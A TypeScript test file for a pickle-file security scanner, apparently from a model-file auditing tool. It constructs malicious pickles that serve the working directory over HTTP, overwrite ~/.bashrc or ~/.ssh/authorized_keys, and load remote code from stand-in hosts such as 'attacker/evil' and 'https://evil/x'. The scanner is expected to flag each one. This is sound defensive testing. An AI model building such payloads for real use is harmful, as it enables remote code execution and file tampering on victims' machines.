/**
 * Imports end to end, on pickles built opcode by opcode: Python 2 names judged by the
 * name the unpickler really imports, side-effecting framework classes, and loaders
 * that fetch or deserialize more code (issue #4's auditor cases).
 */
import { scanPickleBuffer, type PickleScanResult } from '../../src/inspect/pickle/index.js'
import { pb, type PickleBuilder } from './builder.js'

const rules = (r: PickleScanResult) => r.issues.map((i) => `${i.severity}:${i.rule}`)
const sg = (b: PickleBuilder, m: string, n: string) => b.unicode(m).unicode(n).stackGlobal()

describe('Python 2 names (protocol < 3, fix_imports)', () => {
  it('SimpleHTTPServer.test(SimpleHTTPRequestHandler) is http.server serving the working directory: an error', () => {
    const data = Buffer.from('\x80\x02cSimpleHTTPServer\ntest\ncSimpleHTTPServer\nSimpleHTTPRequestHandler\n\x85R.', 'latin1')
    const r = scanPickleBuffer(data)
    expect(r.issues).toEqual([
      {
        rule: 'unsafe-serialization',
        severity: 'error',
        message: 'Loading this pickle runs code: GLOBAL at byte 2 imports SimpleHTTPServer.test, which is dangerous (imported as http.server.test: http: network access).',
        fix: expect.stringMatching(/safetensors/),
        offset: 2
      },
      {
        rule: 'unsafe-serialization',
        severity: 'error',
        message: 'Loading this pickle runs code: GLOBAL at byte 25 imports SimpleHTTPServer.SimpleHTTPRequestHandler, which is dangerous (imported as http.server.SimpleHTTPRequestHandler: http: network access).',
        fix: expect.stringMatching(/safetensors/),
        offset: 25
      }
    ])
  })

  it.each([
    ['thread', 'start_new_thread', '_thread'], ['__builtin__', 'reduce', 'functools.reduce'], ['__builtin__', 'intern', 'sys.intern'],
    ['robotparser', 'RobotFileParser', 'urllib.robotparser'], ['anydbm', 'open', 'dbm.open'], ['dumbdbm', 'open', 'dbm.dumb']
  ])('%s.%s is judged as %s', (m, n, target) => {
    const r = scanPickleBuffer(pb().proto(2).global(m, n).pop().none().stop().build())
    expect(rules(r)).toEqual(['error:unsafe-serialization'])
    expect(r.issues[0]!.message).toContain(`(imported as ${target}`)
  })
})

describe('side-effecting framework classes', () => {
  it.each([
    ['pandas', 'HDFStore', (b: PickleBuilder) => b.unicode('/home/user/.bashrc').unicode('w').tuple(2), 'opens an HDF5 file at construction (mode "w" truncates it)'],
    ['pandas', 'ExcelWriter', (b: PickleBuilder) => b.unicode('/home/user/.ssh/authorized_keys').tuple(1), 'opens its path for writing at construction'],
    ['torchvision.datasets', 'MNIST', (b: PickleBuilder) => b.mark().unicode('/tmp/x').bool(true).none().none().bool(true).tuple(), 'torchvision.datasets: downloads (download=True) and writes dataset files']
  ])('%s.%s(...) is an error', (m, n, args, why) => {
    const b = sg(pb().proto(4), m, n)
    args(b)
    const r = scanPickleBuffer(b.reduce().stop().build())
    expect(rules(r)).toEqual(['error:unsafe-serialization'])
    expect(r.issues[0]!.message).toBe(`Loading this pickle runs code: STACK_GLOBAL at byte ${6 + m.length + n.length} imports ${m}.${n}, which is dangerous (${why}).`)
  })
})

describe('loaders that fetch or deserialize more code', () => {
  it('partial(transformers.pipeline, trust_remote_code=True) built by NEWOBJ_EX is an error named after the wrapped callable', () => {
    const b = sg(pb().proto(4), 'functools', 'partial')
    sg(b, 'transformers', 'pipeline').tuple(1).emptyDict().unicode('trust_remote_code').bool(true).setitem().op(0x92)
    const r = scanPickleBuffer(b.unicode('text-generation').unicode('attacker/evil').tuple(2).reduce().stop().build())
    expect(r.issues).toEqual([
      {
        rule: 'unsafe-serialization',
        severity: 'error',
        message: 'Loading this pickle runs code: STACK_GLOBAL at byte 47 imports transformers.pipeline, which is dangerous (downloads and loads a model for a pipeline (remote code with trust_remote_code)). It is called through functools.partial at byte 71.',
        fix: expect.any(String),
        offset: 47
      }
    ])
  })

  it.each([
    ['torch.utils.model_zoo', 'load_url'], ['numpy.lib.format', 'read_array'], ['transformers', 'AutoModel.from_pretrained'],
    ['torch.hub', 'load'], ['huggingface_hub', 'snapshot_download'], ['diffusers', 'DiffusionPipeline'], ['joblib', 'load'],
    ['pandas', 'read_pickle'], ['numpy', 'load']
  ])('%s.%s is an error', (m, n) => {
    const r = scanPickleBuffer(sg(pb().proto(4), m, n).unicode('https://evil/x').tuple(1).reduce().stop().build())
    expect(rules(r)).toEqual(['error:unsafe-serialization'])
  })
})
